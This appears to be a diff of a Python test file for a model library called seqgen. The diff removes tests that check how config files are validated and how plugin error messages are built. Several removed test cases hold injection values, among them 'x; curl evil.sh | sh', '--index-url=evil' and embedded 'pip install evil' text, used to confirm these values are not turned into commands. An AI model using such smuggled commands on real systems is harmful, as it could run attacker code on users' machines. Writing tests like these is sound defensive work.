@@ -6,7 +6,6 @@ import json
 import math
 import os
 import struct
-import time
 import tracemalloc
 from types import SimpleNamespace
 
@@ -15,25 +14,14 @@ import pytest
 
 from seqgen import __version__
 from seqgen.backends.numpy.backend import NumpyBackend
-from seqgen.checkpoint import (
-    ModelConfig,
-    PartRecord,
-    SavedModel,
-    config_to_json,
-    make_recorded,
-    map_weights,
-    read_config,
-    read_weights,
-    write_weights,
-)
+from seqgen.checkpoint import SavedModel, map_weights, read_weights, write_weights
 from seqgen.core.canonical import canonical_shapes, initial_weights
-from seqgen.core.catalog import Catalog, load_catalog
-from seqgen.core.errors import DamagedModelError, MissingDependencyError, ModelNotFoundError, OptionError, SeqgenError
-from seqgen.core.hookspecs import hookimpl
-from seqgen.core.plugin import PATIENCE, Plugin
+from seqgen.core.catalog import load_catalog
+from seqgen.core.errors import DamagedModelError, ModelNotFoundError, SeqgenError
 from seqgen.core.spec import ModelSpec
 from seqgen.files import write_json
 from seqgen.manifest import CONFIG, WEIGHTS, write_manifest
+from seqgen.model_config import ModelConfig, PartRecord, config_to_json
 from seqgen.tokenizers.char import CharTokenizer
 
 SPEC = ModelSpec(vocab_size=4, embedding_size=3, hidden_size=5)
@@ -239,26 +227,6 @@ def test_tensors_fill_the_file_one_after_another(tmp_path, offsets, sentence):
             map_weights(tmp_path / WEIGHTS, shapes, where="m:1")
 
 
-@pytest.mark.parametrize(
-    ("change", "sentence"),
-    [
-        (lambda c: c | {"surprise": 1}, "unknown key surprise"),
-        (lambda c: {k: v for k, v in c.items() if k != "parts"}, "missing key parts"),
-        (lambda c: c | {"format_version": 99}, "format version 99"),
-        (lambda c: c | {"model": c["model"] | {"hidden_size": 0}}, "hidden_size is 0"),
-        (lambda c: c | {"model": c["model"] | {"class": "os.system"}}, 'has no option "class"'),
-        (lambda c: c | {"model": {}}, "vocab_size"),
-        (lambda c: c | {"parts": {"tokenizer": {"name": "char"}}}, "parts.tokenizer is not"),
-        (lambda c: c | {"parts": []}, "parts is not an object"),
-    ],
-)
-def test_a_config_that_is_not_ours_is_refused_by_name(folder, change, sentence):
-    config = json.loads((folder / CONFIG).read_text())
-    write_json(folder / CONFIG, change(config))
-    with pytest.raises(DamagedModelError, match=sentence):
-        read_config(folder / CONFIG, where="m:1/config.json")
-
-
 @pytest.mark.parametrize("name", ["manifest.json", "config.json"])
 @pytest.mark.parametrize(
     ("version", "advice"),
@@ -306,24 +274,6 @@ def test_a_tokenizer_with_more_in_it_names_its_file_and_asks_for_a_later_version
     )
 
 
-def test_an_option_that_a_later_version_of_a_part_wrote_asks_for_that(folder):
-    config = json.loads((folder / CONFIG).read_text())
-    config["parts"]["dataset"] = {
-        "name": "text",
-        "distribution": "seqgen",
-        "version": "999.0",
-        "options": {"surprise": 1},
-    }
-    write_json(folder / CONFIG, config)
-    read = read_config(folder / CONFIG, where="")
-    with pytest.raises(OptionError) as error:
-        make_recorded(load_catalog(), "dataset", read, where="m:1", sources=("a.txt",))
-    assert str(error.value).startswith('m:1/config.json: dataset text has no option "surprise".')
-    assert str(error.value).endswith(
-        f".  It was written by seqgen 999.0, and this is seqgen {__version__}.  Upgrade seqgen."
-    )
-
-
 def test_a_vocabulary_of_another_size_is_refused(folder):
     config = json.loads((folder / CONFIG).read_text())
     config["model"]["vocab_size"] = 10**12
@@ -331,84 +281,6 @@ def test_a_vocabulary_of_another_size_is_refused(folder):
     write_manifest(folder, {})
     with pytest.raises(DamagedModelError, match=r"4 tokens, but the model has 1000000000000"):
         SavedModel.open(folder, where="m:1").tokenizer(load_catalog())
-
-
-def test_a_part_whose_plugin_is_not_installed_says_what_to_install(folder):
-    config = json.loads((folder / CONFIG).read_text())
-    config["parts"]["tokenizer"] = {"name": "abc", "distribution": "seqgen-music", "version": "1.2", "options": {}}
-    write_json(folder / CONFIG, config)
-    write_manifest(folder, {})
-    with pytest.raises(MissingDependencyError) as error:
-        SavedModel.open(folder, where="m:1").tokenizer(load_catalog())
-    assert str(error.value) == (
-        'Model m:1 needs the tokenizer "abc" of seqgen-music 1.2, which is not installed.  pip install seqgen-music'
-    )
-
-
-@pytest.mark.parametrize(
-    ("named", "sentence"),
-    [
-        (
-            {"distribution": "x; curl evil.sh | sh"},
-            'the tokenizer "abc" of "x; curl evil.sh | sh" 1.2, which is no name of a distribution, so that nothing can be installed.',
-        ),
-        (
-            {"distribution": "--index-url=evil"},
-            'the tokenizer "abc" of "--index-url=evil" 1.2, which is no name of a distribution, so that nothing can be installed.',
-        ),
-        (
-            {"distribution": "x" * 100},
-            f'the tokenizer "abc" of "{"x" * 80}..." 1.2, which is no name of a distribution, so that nothing can be installed.',
-        ),
-        (
-            {"name": 'abc".\n  pip install evil', "version": "1.  pip install evil"},
-            (
-                'the tokenizer "abc\\".\\n  pip install evil" of seqgen-music "1.  pip install evil", which is not installed.'
-                "  pip install seqgen-music"
-            ),
-        ),
-        (
-            {"distribution": "seqgen", "version": "9.0"},
-            f'the tokenizer "abc" of seqgen 9.0, which this seqgen ({__version__}) does not have.  A newer seqgen is needed.',
-        ),
-        (
-            {"distribution": "SeqGen"},
-            f'the tokenizer "abc" of SeqGen 1.2, which this seqgen ({__version__}) does not have.  A newer seqgen is needed.',
-        ),
-    ],
-)
-def test_what_a_stranger_says_of_a_plugin_becomes_no_command(folder, named, sentence):
-    config = json.loads((folder / CONFIG).read_text())
-    config["parts"]["tokenizer"] = {
-        "name": "abc",
-        "distribution": "seqgen-music",
-        "version": "1.2",
-        "options": {},
-        **named,
-    }
-    write_json(folder / CONFIG, config)
-    write_manifest(folder, {})
-    with pytest.raises(MissingDependencyError) as error:
-        SavedModel.open(folder, where="m:1").tokenizer(load_catalog())
-    assert str(error.value) == f"Model m:1 needs {sentence}"
-
-
-def test_a_part_whose_plugin_takes_long_to_be_imported_is_waited_for(folder):
-    class Offering:
-        @hookimpl
-        def register_tokenizers(self, register):
-            register("slow", "seqgen.tokenizers.char:CharTokenizer", summary="comes late")
-
-    def load():
-        time.sleep(PATIENCE + 0.5)
-        return Offering()
-
-    config = json.loads((folder / CONFIG).read_text())
-    config["parts"]["tokenizer"] = {"name": "slow", "distribution": "seqgen-slow", "version": "1", "options": {}}
-    write_json(folder / CONFIG, config)
-    write_manifest(folder, {})
-    catalog = Catalog([*load_catalog().plugins, Plugin("slow", "slow", "seqgen-slow", "1", load)])
-    assert SavedModel.open(folder, where="m:1").tokenizer(catalog).vocab_size == 4
 
 
 def test_every_refusal_is_a_seqgen_error(folder):
